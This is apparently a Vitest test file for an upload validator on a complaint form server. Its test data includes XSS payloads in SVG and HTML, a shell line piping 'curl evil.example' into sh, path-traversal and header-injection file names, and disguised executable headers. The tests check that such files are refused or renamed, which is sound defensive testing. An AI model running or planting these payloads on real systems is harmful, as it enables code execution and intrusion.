import { describe, expect, test } from 'vitest';
import { cleanFileName } from '../../server/submissions/accept-form.ts';
import {
  contactRequest,
  jpeg,
  pdf,
  png,
  receivers,
  type SentFile,
  shortComplaint,
  toFormData,
} from '../support/complaints.ts';
import {
  createSqliteServer,
  errorsOf,
  getAcceptingServer,
  getRefusingServer,
  send,
  sendComplaint,
} from '../support/submissions.ts';

/** Files that are two things at once, or something else than they say. */
const bytes = (text: string) => new TextEncoder().encode(text);
const join = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
const script = '<script>alert(1)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;

describe('a file of a complaint is refused by its file type when it is', () => {
  test.each<[string, string, Uint8Array]>([
    ['a drawing', 'plan.svg', bytes(svg)],
    ['a drawing with a declaration', 'plan.svg', bytes(`<?xml version="1.0"?>${svg}`)],
    ['a drawing that is called a photograph', 'photo.png', bytes(svg)],
    ['a page that is called a document', 'facture.pdf', bytes(`<!doctype html>${script}`)],
    ['a page before a document', 'facture.pdf', join(bytes(script), pdf)],
    ['a program of Windows', 'facture.pdf.exe', bytes('MZ\u0090\0\u0003\0\0\0')],
    ['a program of Linux', 'facture.pdf', join(bytes('\x7fELF'), new Uint8Array(60))],
    ['a script', 'facture.pdf', bytes('#!/bin/sh\ncurl evil.example | sh\n')],
    ['an archive', 'facture.pdf', join(bytes('PK\x03\x04\x14\0'), new Uint8Array(60))],
    ['a moving picture', 'photo.png', join(bytes('GIF89a'), new Uint8Array(30))],
    [
      'an old Office document',
      'facture.pdf',
      Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
    ],
    ['a document for printers', 'facture.pdf', bytes('%!PS-Adobe-3.0\n(r) file\n')],
  ])('%s', async (_, name, content) => {
    const server = await getAcceptingServer();
    const before = (await server.store.list()).length;
    const response = await sendComplaint(server, shortComplaint, [{ name, bytes: content }]);
    expect(response.status).toBe(415);
    expect(await errorsOf(response)).toMatchObject([{ field: 'files' }]);
    expect(await server.store.list()).toHaveLength(before);
  });
});

describe('a PDF is accepted within its first 1,024 bytes', () => {
  test.each([
    ['a line break', '\n', 201],
    ['blanks', '  ', 201],
    ['a byte order mark', '\uFEFF', 201],
    ['a line of a scanner', 'SCAN-01\r\n', 201],
    ['a page of blanks', ' '.repeat(2000), 415],
    ['the header of an archive', `PK\u0003\u0004${'\0'.repeat(26)}`, 415],
  ])('after %s', async (_, before, status) => {
    const files = [{ name: 'devis.pdf', bytes: join(bytes(before), pdf) }];
    const response = await sendComplaint(await getAcceptingServer(), shortComplaint, files);
    expect(response.status).toBe(status);
  });
});

describe('a file that is two things at once has the harmless file type', () => {
  test.each<[string, string, Uint8Array, string, string]>([
    ['a document and a page', 'a.html', join(pdf, bytes(script)), 'application/pdf', 'a.html.pdf'],
    ['a picture and a page', 'a.htm', join(png, bytes(script)), 'image/png', 'a.htm.png'],
    ['a picture and a drawing', 'a.svg', join(jpeg, bytes(svg)), 'image/jpeg', 'a.svg.jpg'],
    ['a picture and an archive', 'a.jar', join(png, bytes('PK\x03\x04')), 'image/png', 'a.jar.png'],
  ])('%s', async (_, name, content, type, keptName) => {
    const server = await getAcceptingServer();
    const response = await sendComplaint(server, shortComplaint, [{ name, bytes: content }]);
    expect(response.status).toBe(201);
    const { reference } = (await response.json()) as { reference: string };
    expect(await server.store.readAttachments(reference)).toMatchObject([{ name: keptName, type }]);
    for (const path of [`/storage/${keptName}`, `/api/reclamations/${reference}`]) {
      expect((await server.app.request(path)).status).toBe(404);
    }
  });
});

describe('the name of a file', () => {
  test.each([
    ['leads to no other folder', '../../etc/cron.d/x.pdf', 'x.pdf'],
    ['leads to no other folder of Windows', 'C:\\Windows\\x.pdf', 'x.pdf'],
    ['hides no file', '.htaccess', 'htaccess.pdf'],
    ['is not read backwards', 'facture\u202efdp.exe', 'facturefdp.exe.pdf'],
    ['ends no line', 'a\r\nBcc: x@evil.example\r\n.pdf', 'aBcc x@evil.example.pdf'],
    ['ends nowhere before its end', 'a.exe\0.pdf', 'a.exe.pdf'],
    ['names no stream', 'a.pdf::$DATA', 'a.pdf$DATA.pdf'],
    ['is never empty', '...', 'piece-jointe-1.pdf'],
    ['has an end', `${'é'.repeat(300)}.pdf`, `${'é'.repeat(100)}.pdf`],
    ['ends where a disk counts bytes', `${'𠮷'.repeat(99)}.pdf`, `${'𠮷'.repeat(50)}.pdf`],
  ])('%s', (_, name, kept) => {
    expect(cleanFileName(name, 'application/pdf', 'piece-jointe-1')).toBe(kept);
  });
});

describe('attachments', () => {
  const html = new TextEncoder().encode('<!doctype html><script>alert(1)</script>');
  const file = (name: string, bytes: Uint8Array) => ({ name, bytes });
  test.each<[string, number, SentFile[], string]>([
    ['four files', 422, [1, 2, 3, 4].map((n) => file(`${n}.pdf`, pdf)), 'Trois fichiers au plus'],
    ['an empty file', 422, [file('vide.pdf', new Uint8Array())], 'Le fichier 1 est vide'],
    ['a page that is called a PDF', 415, [file('a.pdf', pdf), file('b.pdf', html)], 'Le fichier 2'],
    ['a broken image', 415, [file('a.png', png.slice(0, 4))], 'Le fichier 1'],
    ['a file over the limit', 413, [file('a.pdf', pad(pdf, 11))], 'Un fichier ne peut pas'],
    [
      'files over the limit together',
      413,
      [1, 2, 3].map((n) => file(`${n}.pdf`, pad(pdf, 4.5))),
      'Un fichier',
    ],
  ])('%s: %i', async (_name, status, files, message) => {
    const server = await getRefusingServer();
    const response = await sendComplaint(server, shortComplaint, files);
    expect(response.status).toBe(status);
    expect(await errorsOf(response)).toEqual([
      {
        field: 'files',
        pointer: expect.stringMatching(/^\/files/),
        message: expect.stringContaining(message),
      },
    ]);
    expect(await server.store.list()).toEqual([]);
  });

  test('of the allowed size are accepted', async () => {
    const server = await getAcceptingServer();
    const files = [file('a.pdf', pad(pdf, 4.9)), file('b.pdf', pad(pdf, 4.9))];
    expect((await sendComplaint(server, shortComplaint, files)).status).toBe(201);
  });

  test('a file field left empty in a browser counts as none', async () => {
    const server = await createSqliteServer();
    const form = toFormData(shortComplaint);
    form.append('files', new File([], ''));
    expect((await send(server, receivers.complaint, form)).status).toBe(201);
    expect(await server.store.list()).toMatchObject([{ attachments: 0 }]);
  });

  test('are not for contact requests', async () => {
    const server = await getRefusingServer();
    const form = toFormData(contactRequest, [file('a.pdf', pdf)]);
    const response = await send(server, receivers.contact, form);
    expect(response.status).toBe(422);
    expect(await errorsOf(response)).toMatchObject([{ field: 'files' }]);
  });
});

function pad(bytes: Uint8Array, megabytes: number): Uint8Array {
  const padded = new Uint8Array(megabytes * 1024 * 1024);
  padded.set(bytes);
  return padded;
}
